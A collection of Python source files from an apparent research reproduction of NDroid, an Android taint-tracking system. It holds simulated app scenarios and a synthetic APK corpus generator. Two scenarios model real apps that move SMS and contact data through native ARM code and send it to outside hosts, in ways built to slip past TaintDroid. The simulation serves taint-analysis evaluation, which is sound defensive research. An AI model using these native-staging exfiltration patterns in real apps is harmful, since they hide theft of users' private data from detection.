held in native memory.  A second native call, ``getPostUrl`` (shorty
``LI``) — with *no* tainted parameters — wraps that buffer with
``NewStringUTF`` and returns it; the Java code then posts it to
``info.3g.qq.com``.

TaintDroid alone cannot detect this: its bridge policy gives
``getPostUrl``'s return no taint.  NDroid tracks the parameter's taint
into the URL buffer and re-taints the new String object on the way back.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.common.taint import TAINT_CONTACTS, TAINT_SMS
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

CLASS_NAME = "Lcom/tencent/tccsync/LoginUtil;"
DESTINATION = "info.3g.qq.com:80"


def build() -> Scenario:
    """Build the QQPhoneBook 3.5 scenario (Fig. 6)."""
    login_util = ClassDef(CLASS_NAME)
    # Shorty IILLLLLLLLII: int return; params I L L L L L L L L I I.
    login_util.add_method(
        MethodBuilder(CLASS_NAME, "makeLoginRequestPackageMd5",
                      "IILLLLLLLLII", static=True, native=True).build())
    login_util.add_method(
        MethodBuilder(CLASS_NAME, "getPostUrl", "LI", static=True,
                      native=True).build())

    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=16)
    main.const_string(0, "libtccsync.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    # Gather SMS + contacts: the combined string carries taint 0x202.
    main.invoke_static("Landroid/provider/Telephony$Sms;->getAllMessages")
    main.move_result_object(1)
    main.invoke_static("Landroid/provider/ContactsContract;->queryAllContacts")
    main.move_result_object(2)
    main.string_concat(3, 1, 2)
    # Eleven arguments; the sensitive string is args[3] (v7).
    main.const(4, 35)              # args[0]  I  protocol version
    main.const_string(5, "wup")    # args[1]  L
    main.const_string(6, "login")  # args[2]  L
    main.move_object(7, 3)         # args[3]  L  <- taint 0x202
    main.const_string(8, "")       # args[4..8] L padding fields
    main.const_string(9, "")
    main.const_string(10, "")
    main.const_string(11, "")
    main.const_string(12, "")
    main.const(13, 0)              # args[9]  I
    main.const(14, 1)              # args[10] I
    main.invoke_static(f"{CLASS_NAME}->makeLoginRequestPackageMd5",
                       4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14)
    # Second call: no tainted parameters (step 2 in Fig. 6).
    main.const(4, 0)
    main.invoke_static(f"{CLASS_NAME}->getPostUrl", 4)
    main.move_result_object(15)
    # The Java code sends the URL out.
    main.const_string(0, DESTINATION)
    main.invoke_static("Ljava/net/Socket;->sendData", 0, 15)
    main.ret_void()
    login_util.add_method(main.build())

    native = f"""
    Java_com_tencent_tccsync_LoginUtil_makeLoginRequestPackageMd5:
        ; env=r0 jclass=r1 args[0]=r2 args[1]=r3 args[2..10]=[sp..]
        ldr r2, [sp, #4]              ; args[3], the tainted jstring
        push {{r4, r5, lr}}
        mov r4, r0
        ; chars = GetStringUTFChars(env, args[3], NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        ; sprintf(url_buffer, "http://sync.3g.qq.com/xpimlogin?sid=%s", chars)
        ldr r0, =url_buffer
        ldr r1, =url_format
        mov r2, r5
        ldr ip, =sprintf
        blx ip
        mov r0, #0
        pop {{r4, r5, pc}}

    Java_com_tencent_tccsync_LoginUtil_getPostUrl:
        ; env=r0 jclass=r1 args[0]=r2 (int, untainted)
        push {{r4, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('NewStringUTF')}]
        ldr r1, =url_buffer
        blx ip
        pop {{r4, pc}}

    url_format:
        .asciz "http://sync.3g.qq.com/xpimlogin?sid=%s"
    .align 2
    url_buffer:
        .space 512
    """
    apk = Apk(package="com.tencent.qqphonebook", category="Communication",
              classes=[login_util],
              native_libraries={"libtccsync.so": native},
              load_library_calls=["libtccsync.so"], downloads=750_000)
    return Scenario(
        name="qqphonebook", apk=apk, case="1'",
        expected_taint=TAINT_SMS | TAINT_CONTACTS,   # 0x202
        expected_destination="info.3g.qq.com",
        taintdroid_alone_detects=False,
        description="QQPhoneBook 3.5: SMS/contact data staged through "
                    "native memory and fetched by getPostUrl (Fig. 6)")
