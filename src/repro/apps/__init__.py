"""Scenario applications.

Executable reconstructions of every information flow the paper evaluates:

* the Table I case matrix (cases 1, 1', 2, 3, 4) in :mod:`cases`;
* QQPhoneBook v3.5 (Fig. 6) in :mod:`qqphonebook`;
* ePhone v3.3 (Fig. 7) in :mod:`ephone`;
* the case-2 PoC writing contacts to ``/sdcard/CONTACTS`` (Fig. 8) in
  :mod:`poc_case2`;
* the case-3 PoC routing device info through ``NewStringUTF`` and
  ``CallVoidMethod`` (Fig. 9) in :mod:`poc_case3`;
* a benign control app (no sensitive flow) in :mod:`benign`.

Each module exposes ``build() -> Scenario``; ``Scenario.run(platform)``
installs and executes the app.
"""

from repro.apps.base import Scenario, run_scenario
from repro.apps import (
    benign,
    cases,
    ephone,
    poc_case2,
    poc_case3,
    qqphonebook,
    thumb_app,
)

ALL_SCENARIOS = {
    "case1": cases.build_case1,
    "case1_prime": cases.build_case1_prime,
    "case2": cases.build_case2,
    "case3": cases.build_case3,
    "case4": cases.build_case4,
    "case2_thumb": thumb_app.build,
    "qqphonebook": qqphonebook.build,
    "ephone": ephone.build,
    "poc_case2": poc_case2.build,
    "poc_case3": poc_case3.build,
    "benign": benign.build,
}

__all__ = ["Scenario", "run_scenario", "ALL_SCENARIOS"]
