"""ePhone v3.3 (paper Fig. 7) — a real-world case-2 flow.

The Java code calls the native method ``callregister`` (class
``Lcom/vnet/asip/general/general;``, shorty ``ILLLLLLLII``) with contact
data in ``args[2]`` (taint ``0x2``).  The native code converts the Java
string with ``GetStringUTFChars``, pushes it through ``memcpy``/
``sprintf``-style processing into a SIP REGISTER packet, and transmits it
with ``sendto`` to ``softphone.comwave.net`` — a native-context sink that
TaintDroid never checks.
"""

from __future__ import annotations

from repro.apps.base import Scenario
from repro.common.taint import TAINT_CONTACTS
from repro.dalvik.classes import ClassDef, MethodBuilder
from repro.framework.apk import Apk
from repro.jni.slots import jni_offset

CLASS_NAME = "Lcom/vnet/asip/general/general;"
DESTINATION = "softphone.comwave.net:5060"


def build() -> Scenario:
    """Build the ePhone 3.3 scenario (Fig. 7)."""
    general = ClassDef(CLASS_NAME)
    # Shorty ILLLLLLLII: int return; params L L L L L L L I I.
    general.add_method(
        MethodBuilder(CLASS_NAME, "callregister", "ILLLLLLLII",
                      static=True, native=True).build())

    main = MethodBuilder(CLASS_NAME, "main", "V", static=True, registers=12)
    main.const_string(0, "libasip.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.invoke_static(
        "Landroid/provider/ContactsContract;->queryAllContacts")
    main.move_result_object(1)          # taint 0x2
    main.const_string(2, "4804001849")  # account id
    main.const_string(3, "sip.comwave.net")
    main.move_object(4, 1)              # args[2] <- tainted contacts
    main.const_string(5, "")
    main.const_string(6, "")
    main.const_string(7, "")
    main.const_string(8, "")
    main.const(9, 5060)
    main.const(10, 1)
    main.invoke_static(f"{CLASS_NAME}->callregister",
                       2, 3, 4, 5, 6, 7, 8, 9, 10)
    main.ret_void()
    general.add_method(main.build())

    native = f"""
    Java_com_vnet_asip_general_general_callregister:
        ; env=r0 jclass=r1 args[0]=r2 args[1]=r3 args[2..8]=[sp..]
        ldr r2, [sp]                   ; args[2], tainted contacts jstring
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ; chars = GetStringUTFChars(env, args[2], NULL)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        ; staging = malloc(256); memcpy(staging, chars, strlen+1)
        mov r0, #256
        ldr ip, =malloc
        blx ip
        mov r6, r0
        mov r0, r5
        ldr ip, =strlen
        blx ip
        add r2, r0, #1
        mov r0, r6
        mov r1, r5
        ldr ip, =memcpy
        blx ip
        ; sprintf(packet, "REGISTER sip:...From: %s", staging)
        ldr r0, =packet
        ldr r1, =sip_format
        mov r2, r6
        ldr ip, =sprintf
        blx ip
        ; fd = socket(AF_INET, SOCK_DGRAM)
        mov r0, #2
        mov r1, #2
        ldr ip, =socket
        blx ip
        mov r5, r0
        ; n = strlen(packet)
        ldr r0, =packet
        ldr ip, =strlen
        blx ip
        mov r2, r0
        ; sendto(fd, packet, n, 0, dest, 0)
        mov r0, r5
        ldr r1, =packet
        mov r3, #0
        ldr r5, =dest
        str r5, [sp, #-8]!
        ldr ip, =sendto
        blx ip
        add sp, sp, #8
        mov r0, #0
        pop {{r4, r5, r6, pc}}

    sip_format:
        .asciz "REGISTER sip:softphone.comwave.net Via: SIP/2.0/UDP From: %s"
    dest:
        .asciz "softphone.comwave.net:5060"
    .align 2
    packet:
        .space 512
    """
    apk = Apk(package="com.vnet.asip.ephone", category="Communication",
              classes=[general], native_libraries={"libasip.so": native},
              load_library_calls=["libasip.so"])
    return Scenario(
        name="ephone", apk=apk, case="2",
        expected_taint=TAINT_CONTACTS,
        expected_destination="softphone.comwave.net",
        taintdroid_alone_detects=False,
        description="ePhone 3.3: contact data processed through memcpy/"
                    "sprintf and sent natively via sendto (Fig. 7)")
