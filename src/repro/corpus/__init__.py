"""The Section III large-scale app study.

The paper crawls 227,911 Google Play APKs and classifies the JNI-using
ones into three types:

* **Type I** — Java code explicitly calls ``System.load()`` /
  ``System.loadLibrary()`` (37,506 apps; 4,034 of them ship no library,
  48.1% of those because of an AdMob plugin's native-method declarations);
* **Type II** — bundle native libraries without any load call (1,738 apps;
  394 carry an embedded dex that performs the load when dynamically
  loaded);
* **Type III** — pure native apps (16: 11 games, 5 entertainment).

The real crawl is not available, so :mod:`generator` synthesises a corpus
whose *marginals* are calibrated to the published numbers, and
:mod:`study` runs the same static-analysis pipeline a scanner would:
grep the app's string table for load invocations, inspect the bundled
``lib/`` entries and their architectures, detect embedded dex payloads,
and classify.  The analysis never reads the generator's hidden labels.
"""

from repro.corpus.appmodel import AppRecord, EmbeddedDexInfo
from repro.corpus.generator import CorpusGenerator, PAPER_PARAMETERS
from repro.corpus.study import StudyReport, analyze_corpus

__all__ = [
    "AppRecord",
    "EmbeddedDexInfo",
    "CorpusGenerator",
    "PAPER_PARAMETERS",
    "StudyReport",
    "analyze_corpus",
]
