"""Calibrated synthetic corpus generator.

Generates :class:`AppRecord` populations whose marginals match the
paper's published Section III numbers (stored in
:data:`PAPER_PARAMETERS`).  Generation is deterministic for a given seed,
and a ``scale`` factor shrinks every stratum proportionally so unit tests
can run on thousands of records while the benchmark uses the full
227,911.

The analyzer (:mod:`repro.corpus.study`) never sees the strata — it must
rediscover them from the record contents.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from repro.corpus.appmodel import (
    ADMOB_CLASSES,
    AppRecord,
    EmbeddedDexInfo,
    LOAD_LIBRARY_STRING,
    LOAD_STRING,
    NATIVE_ACTIVITY_STRING,
)


@dataclass(frozen=True)
class StudyParameters:
    """The published marginals (Section III)."""

    total_apps: int = 227_911
    type1_count: int = 37_506
    type1_without_libs: int = 4_034
    type1_without_libs_admob_share: float = 0.481
    type2_count: int = 1_738
    type2_loadable_count: int = 394
    type3_count: int = 16
    type3_games: int = 11
    # Fig. 2: category distribution of Type I apps.
    type1_categories: Tuple[Tuple[str, float], ...] = (
        ("Game", 0.42), ("Tools", 0.05), ("Entertainment", 0.05),
        ("Communication", 0.04), ("Personalization", 0.04),
        ("Music And Audio", 0.04), ("Productivity", 0.03),
        ("Media And Video", 0.03), ("Lifestyle", 0.03),
        ("Education", 0.03), ("Books And Reference", 0.03),
        ("Travel And Local", 0.03), ("Sports", 0.02), ("Finance", 0.02),
        ("Business", 0.02), ("Photography", 0.02), ("Other", 0.10),
    )


PAPER_PARAMETERS = StudyParameters()

# Popular native libraries, most-bundled first (Section III.A: game
# engines dominate, then media, then NDK/system libraries bundled for
# compatibility).
POPULAR_LIBRARIES = (
    "libunity.so", "libmono.so", "libgdx.so", "libbox2d.so",
    "libcocos2dcpp.so", "libandroidgl20.so", "libffmpeg.so",
    "libvlcjni.so", "libmp3lame.so", "libopenal.so",
    "libstlport_shared.so", "libcore.so", "libstagefright_froyo.so",
    "libcrypto.so", "libsqliteX.so", "libgnustl_shared.so",
    "libprotect.so", "libsecexe.so", "libtersafe.so", "liblua.so",
)

_GENERIC_CATEGORIES = (
    "Tools", "Entertainment", "Communication", "Personalization",
    "Music And Audio", "Productivity", "Lifestyle", "Education",
    "Sports", "Finance", "Business", "Photography", "Other",
)

_PLAIN_STRINGS = (
    "Landroid/app/Activity;->onCreate",
    "Landroid/widget/TextView;->setText",
    "Ljava/util/HashMap;-><init>",
    "Landroid/content/Intent;-><init>",
)


class CorpusGenerator:
    """Deterministic, calibrated corpus synthesis."""

    def __init__(self, seed: int = 2014,
                 parameters: StudyParameters = PAPER_PARAMETERS,
                 scale: float = 1.0) -> None:
        self.random = random.Random(seed)
        self.parameters = parameters
        self.scale = scale

    def _scaled(self, count: int) -> int:
        return max(1, round(count * self.scale)) if count else 0

    # -- public API ---------------------------------------------------------------

    def generate(self) -> List[AppRecord]:
        parameters = self.parameters
        records: List[AppRecord] = []
        type1 = self._scaled(parameters.type1_count)
        type1_without = min(self._scaled(parameters.type1_without_libs),
                            type1)
        type2 = self._scaled(parameters.type2_count)
        type2_loadable = min(self._scaled(parameters.type2_loadable_count),
                             type2)
        type3 = self._scaled(parameters.type3_count)
        total = max(self._scaled(parameters.total_apps),
                    type1 + type2 + type3)

        records.extend(self._type1_records(type1, type1_without))
        records.extend(self._type2_records(type2, type2_loadable))
        records.extend(self._type3_records(type3))
        records.extend(self._plain_records(total - len(records)))
        self.random.shuffle(records)
        return records

    # -- strata --------------------------------------------------------------------

    def _pick_type1_category(self) -> str:
        roll = self.random.random()
        cumulative = 0.0
        for name, share in self.parameters.type1_categories:
            cumulative += share
            if roll < cumulative:
                return name
        return "Other"

    def _pick_libraries(self, category: str) -> Tuple[str, ...]:
        # Zipf-flavoured popularity; games prefer engine libraries.
        count = 1 + (self.random.random() < 0.35) + \
            (self.random.random() < 0.1)
        chosen = set()
        while len(chosen) < count:
            index = min(int(self.random.expovariate(0.35)),
                        len(POPULAR_LIBRARIES) - 1)
            if category != "Game" and index < 6 and \
                    self.random.random() < 0.5:
                index = self.random.randrange(6, len(POPULAR_LIBRARIES))
            chosen.add(POPULAR_LIBRARIES[index])
        return tuple(sorted(chosen))

    def _type1_records(self, count: int,
                       without_libs: int) -> List[AppRecord]:
        records = []
        admob_count = round(without_libs *
                            self.parameters.type1_without_libs_admob_share)
        for index in range(count):
            category = self._pick_type1_category()
            strings = _PLAIN_STRINGS + (
                LOAD_LIBRARY_STRING if self.random.random() < 0.9
                else LOAD_STRING,)
            if index < without_libs:
                libraries: Tuple[str, ...] = ()
                if index < admob_count:
                    declared = tuple(self.random.sample(ADMOB_CLASSES, 3))
                else:
                    declared = (f"Lcom/app{index}/Native;",)
            else:
                libraries = self._pick_libraries(category)
                declared = (f"Lcom/app{index}/Engine;",)
            records.append(AppRecord(
                package=f"com.type1.app{index}", category=category,
                dex_strings=strings, native_libraries=libraries,
                declared_native_classes=declared))
        return records

    def _type2_records(self, count: int, loadable: int) -> List[AppRecord]:
        records = []
        for index in range(count):
            if index < loadable:
                embedded = (EmbeddedDexInfo(
                    "assets/payload.dex",
                    _PLAIN_STRINGS + (LOAD_LIBRARY_STRING,)),)
                libraries = self._pick_libraries("Tools")
            else:
                embedded = ()
                # Libraries present but unused: often wrong-arch leftovers
                # from open-source projects (Section III.B).
                archs = self.random.choice(
                    (("x86",), ("mips",), ("armeabi", "x86")))
                libraries = (self.random.choice(POPULAR_LIBRARIES),)
                records.append(AppRecord(
                    package=f"com.type2.app{index}",
                    category=self.random.choice(_GENERIC_CATEGORIES),
                    dex_strings=_PLAIN_STRINGS,
                    native_libraries=libraries, library_archs=archs))
                continue
            records.append(AppRecord(
                package=f"com.type2.app{index}",
                category=self.random.choice(_GENERIC_CATEGORIES),
                dex_strings=_PLAIN_STRINGS,
                native_libraries=libraries, embedded_dex=embedded))
        return records

    def _type3_records(self, count: int) -> List[AppRecord]:
        games = min(self.parameters.type3_games, count)
        records = []
        for index in range(count):
            category = "Game" if index < games else "Entertainment"
            records.append(AppRecord(
                package=f"com.type3.app{index}", category=category,
                dex_strings=(),  # pure native: no Java code at all
                native_libraries=("libmain.so",),
                manifest_flags=(NATIVE_ACTIVITY_STRING,)))
        return records

    def _plain_records(self, count: int) -> List[AppRecord]:
        return [AppRecord(package=f"com.plain.app{index}",
                          category=self.random.choice(_GENERIC_CATEGORIES),
                          dex_strings=_PLAIN_STRINGS)
                for index in range(count)]
