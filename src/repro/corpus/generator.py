"""Calibrated synthetic corpus generator.

Generates :class:`AppRecord` populations whose marginals match the
paper's published Section III numbers (stored in
:data:`PAPER_PARAMETERS`).  Generation is deterministic for a given seed,
and a ``scale`` factor shrinks (or grows) every stratum proportionally so
unit tests can run on thousands of records while the benchmark streams
hundreds of thousands.

Scaling uses **largest-remainder apportionment**
(:func:`largest_remainder`): the scaled strata always sum to exactly the
scaled corpus size, so the type I/II/III marginals track the published
proportions at any scale instead of drifting the way independent
``max(1, round(...))`` rounding does.

The corpus is **addressable and streamable**: every record is a pure
function of ``(seed, stratum, index)`` — per-record RNGs are derived by
hashing, never by consuming a shared generator — and strata are
interleaved by a seed-derived affine permutation of positions rather
than an in-memory shuffle.  :meth:`CorpusGenerator.stream` therefore
yields any slice of the corpus in constant memory, ``record_at`` is
O(1), and ``generate()`` (== ``list(stream())``) returns byte-identical
records to the stream for the same seed, regardless of scale.

The analyzer (:mod:`repro.corpus.study`) never sees the strata — it must
rediscover them from the record contents.
"""

from __future__ import annotations

import bisect
import hashlib
import math
import random
from dataclasses import dataclass, field
from typing import Iterator, List, Optional, Sequence, Tuple

from repro.corpus.appmodel import (
    ADMOB_CLASSES,
    AppRecord,
    EmbeddedDexInfo,
    LOAD_LIBRARY_STRING,
    LOAD_STRING,
    NATIVE_ACTIVITY_STRING,
)


@dataclass(frozen=True)
class StudyParameters:
    """The published marginals (Section III)."""

    total_apps: int = 227_911
    type1_count: int = 37_506
    type1_without_libs: int = 4_034
    type1_without_libs_admob_share: float = 0.481
    type2_count: int = 1_738
    type2_loadable_count: int = 394
    type3_count: int = 16
    type3_games: int = 11
    # Fig. 2: category distribution of Type I apps.
    type1_categories: Tuple[Tuple[str, float], ...] = (
        ("Game", 0.42), ("Tools", 0.05), ("Entertainment", 0.05),
        ("Communication", 0.04), ("Personalization", 0.04),
        ("Music And Audio", 0.04), ("Productivity", 0.03),
        ("Media And Video", 0.03), ("Lifestyle", 0.03),
        ("Education", 0.03), ("Books And Reference", 0.03),
        ("Travel And Local", 0.03), ("Sports", 0.02), ("Finance", 0.02),
        ("Business", 0.02), ("Photography", 0.02), ("Other", 0.10),
    )


PAPER_PARAMETERS = StudyParameters()

# Popular native libraries, most-bundled first (Section III.A: game
# engines dominate, then media, then NDK/system libraries bundled for
# compatibility).
POPULAR_LIBRARIES = (
    "libunity.so", "libmono.so", "libgdx.so", "libbox2d.so",
    "libcocos2dcpp.so", "libandroidgl20.so", "libffmpeg.so",
    "libvlcjni.so", "libmp3lame.so", "libopenal.so",
    "libstlport_shared.so", "libcore.so", "libstagefright_froyo.so",
    "libcrypto.so", "libsqliteX.so", "libgnustl_shared.so",
    "libprotect.so", "libsecexe.so", "libtersafe.so", "liblua.so",
)

# Rejection-sampling bound in _pick_libraries: after this many draws per
# requested library the pick falls back to a deterministic fill.
_LIBRARY_DRAW_ATTEMPTS = 8

_GENERIC_CATEGORIES = (
    "Tools", "Entertainment", "Communication", "Personalization",
    "Music And Audio", "Productivity", "Lifestyle", "Education",
    "Sports", "Finance", "Business", "Photography", "Other",
)

_PLAIN_STRINGS = (
    "Landroid/app/Activity;->onCreate",
    "Landroid/widget/TextView;->setText",
    "Ljava/util/HashMap;-><init>",
    "Landroid/content/Intent;-><init>",
)


def largest_remainder(total: int, weights: Sequence[float]) -> List[int]:
    """Apportion ``total`` units across ``weights`` proportionally.

    Hamilton's method: floor every quota, then hand the leftover units
    to the largest fractional remainders (ties broken by index, so the
    result is deterministic).  The returned counts always sum to exactly
    ``total`` — the property independent per-stratum rounding lacks.
    """
    counts = [0] * len(weights)
    if total <= 0 or not weights:
        return counts
    weight_sum = float(sum(weights))
    if weight_sum <= 0:
        return counts
    quotas = [weight * total / weight_sum for weight in weights]
    counts = [int(quota) for quota in quotas]
    leftover = total - sum(counts)
    order = sorted(range(len(weights)),
                   key=lambda i: (-(quotas[i] - counts[i]), i))
    for index in order[:leftover]:
        counts[index] += 1
    return counts


@dataclass(frozen=True)
class CorpusPlan:
    """The apportioned stratum sizes for one ``(parameters, scale)``.

    Every count is exact bookkeeping, not a target: ``type1 + type2 +
    type3 + plain == total`` by construction, and each sub-stratum is
    the rounded share of its (already apportioned) parent.
    """

    total: int
    type1: int
    type1_without_libs: int
    type1_admob: int
    type2: int
    type2_loadable: int
    type3: int
    type3_games: int
    plain: int

    def marginals(self) -> dict:
        """The stratum counts as a flat dict (for tests and benches)."""
        return {
            "total": self.total, "type1": self.type1,
            "type1_without_libs": self.type1_without_libs,
            "type1_admob": self.type1_admob, "type2": self.type2,
            "type2_loadable": self.type2_loadable, "type3": self.type3,
            "type3_games": self.type3_games, "plain": self.plain,
        }


def plan_corpus(parameters: StudyParameters, scale: float) -> CorpusPlan:
    """Largest-remainder apportionment of the scaled corpus."""
    total = max(0, round(parameters.total_apps * scale))
    plain_weight = max(0, parameters.total_apps - parameters.type1_count -
                       parameters.type2_count - parameters.type3_count)
    type1, type2, type3, plain = largest_remainder(
        total, (parameters.type1_count, parameters.type2_count,
                parameters.type3_count, plain_weight))

    def sub(parent: int, numerator: int, denominator: int) -> int:
        if denominator <= 0:
            return 0
        return min(parent, round(parent * numerator / denominator))

    without = sub(type1, parameters.type1_without_libs,
                  parameters.type1_count)
    admob = min(without,
                round(without * parameters.type1_without_libs_admob_share))
    loadable = sub(type2, parameters.type2_loadable_count,
                   parameters.type2_count)
    games = sub(type3, parameters.type3_games, parameters.type3_count)
    return CorpusPlan(total=total, type1=type1,
                      type1_without_libs=without, type1_admob=admob,
                      type2=type2, type2_loadable=loadable,
                      type3=type3, type3_games=games, plain=plain)


class CorpusGenerator:
    """Deterministic, calibrated, constant-memory corpus synthesis."""

    def __init__(self, seed: int = 2014,
                 parameters: StudyParameters = PAPER_PARAMETERS,
                 scale: float = 1.0) -> None:
        self.seed = seed
        self.random = random.Random(seed)
        self.parameters = parameters
        self.scale = scale
        self.plan = plan_corpus(parameters, scale)
        self._category_names, self._category_cumulative = \
            self._build_category_table(parameters.type1_categories)
        self._mul, self._add = self._permutation(self.plan.total)
        # Stratum boundaries in permuted-position space.
        plan = self.plan
        self._offsets = (plan.type1,
                         plan.type1 + plan.type2,
                         plan.type1 + plan.type2 + plan.type3)

    # -- deterministic machinery ---------------------------------------------------

    @staticmethod
    def _build_category_table(categories) -> Tuple[List[str], List[float]]:
        """Normalized cumulative category table, built once.

        The raw shares can sum to slightly under (or over) 1.0 through
        float error; normalizing the cumulative table — and pinning the
        final boundary to exactly 1.0 — keeps the tail bucket from
        absorbing the float residue on every draw.
        """
        names = [name for name, __ in categories]
        shares = [share for __, share in categories]
        share_sum = math.fsum(shares)
        cumulative: List[float] = []
        acc = 0.0
        for share in shares:
            acc += share
            cumulative.append(acc / share_sum)
        cumulative[-1] = 1.0
        return names, cumulative

    def _permutation(self, total: int) -> Tuple[int, int]:
        """A seed-derived affine permutation ``p -> (a*p + b) % total``.

        Interleaves the strata deterministically without materializing
        (and shuffling) the whole corpus; ``a`` is drawn coprime with
        ``total`` so the map is a bijection.
        """
        if total <= 1:
            return 1, 0
        rng = random.Random(f"{self.seed}:interleave")
        offset = rng.randrange(total)
        while True:
            mul = rng.randrange(1, total)
            if math.gcd(mul, total) == 1:
                return mul, offset

    def _rng(self, stratum: str, index: int) -> random.Random:
        """Per-record RNG: a pure function of (seed, stratum, index)."""
        key = f"{self.seed}:{stratum}:{index}".encode()
        return random.Random(
            int.from_bytes(hashlib.sha256(key).digest()[:8], "big"))

    # -- public API ---------------------------------------------------------------

    def __len__(self) -> int:
        return self.plan.total

    def record_at(self, position: int) -> AppRecord:
        """The corpus record at stream ``position`` (O(1), no state)."""
        total = self.plan.total
        if not 0 <= position < total:
            raise IndexError(f"position {position} outside corpus "
                             f"[0, {total})")
        permuted = (self._mul * position + self._add) % total
        if permuted < self._offsets[0]:
            return self._type1_record(permuted)
        if permuted < self._offsets[1]:
            return self._type2_record(permuted - self._offsets[0])
        if permuted < self._offsets[2]:
            return self._type3_record(permuted - self._offsets[1])
        return self._plain_record(permuted - self._offsets[2])

    def stream(self, start: int = 0,
               stop: Optional[int] = None) -> Iterator[AppRecord]:
        """Yield records ``[start, stop)`` lazily, in constant memory.

        The full stream (default) covers the whole scaled corpus; any
        sub-range generates only its own records, so a sharded farm job
        can analyse records ``[k, k+chunk)`` without replaying the
        prefix.
        """
        total = self.plan.total
        stop = total if stop is None else min(stop, total)
        for position in range(max(0, start), stop):
            yield self.record_at(position)

    def generate(self) -> List[AppRecord]:
        """Materialize the full corpus (identical to ``list(stream())``)."""
        return list(self.stream())

    # -- strata --------------------------------------------------------------------

    def _pick_type1_category(self, rng: random.Random) -> str:
        roll = rng.random()
        return self._category_names[
            bisect.bisect_right(self._category_cumulative, roll)]

    def _pick_libraries(self, rng: random.Random,
                        category: str) -> Tuple[str, ...]:
        # Zipf-flavoured popularity; games prefer engine libraries.
        count = 1 + (rng.random() < 0.35) + (rng.random() < 0.1)
        chosen = set()
        attempts = 0
        # Bounded rejection sampling: the category re-roll can keep
        # rejecting low (engine) indices arbitrarily long, so cap the
        # draws and fall back to a deterministic popularity-order fill.
        while len(chosen) < count and \
                attempts < _LIBRARY_DRAW_ATTEMPTS * count:
            attempts += 1
            index = min(int(rng.expovariate(0.35)),
                        len(POPULAR_LIBRARIES) - 1)
            if category != "Game" and index < 6 and rng.random() < 0.5:
                index = rng.randrange(6, len(POPULAR_LIBRARIES))
            chosen.add(POPULAR_LIBRARIES[index])
        for name in POPULAR_LIBRARIES:
            if len(chosen) >= count:
                break
            chosen.add(name)
        return tuple(sorted(chosen))

    def _type1_record(self, index: int) -> AppRecord:
        rng = self._rng("type1", index)
        plan = self.plan
        category = self._pick_type1_category(rng)
        strings = _PLAIN_STRINGS + (
            LOAD_LIBRARY_STRING if rng.random() < 0.9 else LOAD_STRING,)
        if index < plan.type1_without_libs:
            libraries: Tuple[str, ...] = ()
            if index < plan.type1_admob:
                declared = tuple(rng.sample(ADMOB_CLASSES, 3))
            else:
                declared = (f"Lcom/app{index}/Native;",)
        else:
            libraries = self._pick_libraries(rng, category)
            declared = (f"Lcom/app{index}/Engine;",)
        return AppRecord(
            package=f"com.type1.app{index}", category=category,
            dex_strings=strings, native_libraries=libraries,
            declared_native_classes=declared)

    def _type2_record(self, index: int) -> AppRecord:
        rng = self._rng("type2", index)
        if index < self.plan.type2_loadable:
            embedded = (EmbeddedDexInfo(
                "assets/payload.dex",
                _PLAIN_STRINGS + (LOAD_LIBRARY_STRING,)),)
            return AppRecord(
                package=f"com.type2.app{index}",
                category=rng.choice(_GENERIC_CATEGORIES),
                dex_strings=_PLAIN_STRINGS,
                native_libraries=self._pick_libraries(rng, "Tools"),
                embedded_dex=embedded)
        # Libraries present but unused: often wrong-arch leftovers
        # from open-source projects (Section III.B).
        archs = rng.choice((("x86",), ("mips",), ("armeabi", "x86")))
        return AppRecord(
            package=f"com.type2.app{index}",
            category=rng.choice(_GENERIC_CATEGORIES),
            dex_strings=_PLAIN_STRINGS,
            native_libraries=(rng.choice(POPULAR_LIBRARIES),),
            library_archs=archs)

    def _type3_record(self, index: int) -> AppRecord:
        category = "Game" if index < self.plan.type3_games \
            else "Entertainment"
        return AppRecord(
            package=f"com.type3.app{index}", category=category,
            dex_strings=(),  # pure native: no Java code at all
            native_libraries=("libmain.so",),
            manifest_flags=(NATIVE_ACTIVITY_STRING,))

    def _plain_record(self, index: int) -> AppRecord:
        rng = self._rng("plain", index)
        return AppRecord(package=f"com.plain.app{index}",
                         category=rng.choice(_GENERIC_CATEGORIES),
                         dex_strings=_PLAIN_STRINGS)
