"""Lightweight APK model for the large-scale study.

A quarter of a million records must fit in memory, so this is a compact
``__slots__`` record rather than a full installable
:class:`~repro.framework.apk.Apk`.  The fields mirror what a static
scanner extracts from a real APK: the dex string table (to find
``System.load*`` invocations and native-method declarations), the
``lib/<abi>/`` entries, embedded secondary dex files, and manifest
metadata.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

LOAD_LIBRARY_STRING = "Ljava/lang/System;->loadLibrary"
LOAD_STRING = "Ljava/lang/System;->load"
NATIVE_ACTIVITY_STRING = "android.app.NativeActivity"

# The eight AdMob plugin classes the paper identifies in Type I apps
# without libraries (Section III.A).
ADMOB_CLASSES = (
    "Lcom/admob/android/ads/AdView;",
    "Lcom/admob/android/ads/AdManager;",
    "Lcom/admob/android/ads/InterstitialAd;",
    "Lcom/admob/android/ads/AdListener;",
    "Lcom/admob/android/ads/AdRequest;",
    "Lcom/admob/android/ads/AdContainer;",
    "Lcom/admob/android/ads/AdWebView;",
    "Lcom/admob/android/ads/AnalyticsConnector;",
)


class EmbeddedDexInfo:
    """A secondary (often compressed) dex payload inside an APK."""

    __slots__ = ("name", "strings")

    def __init__(self, name: str, strings: Tuple[str, ...]) -> None:
        self.name = name
        self.strings = strings

    def calls_load(self) -> bool:
        return any(s.startswith(LOAD_STRING) for s in self.strings)


class AppRecord:
    """One APK as seen by the static analyzer."""

    __slots__ = ("package", "category", "dex_strings", "native_libraries",
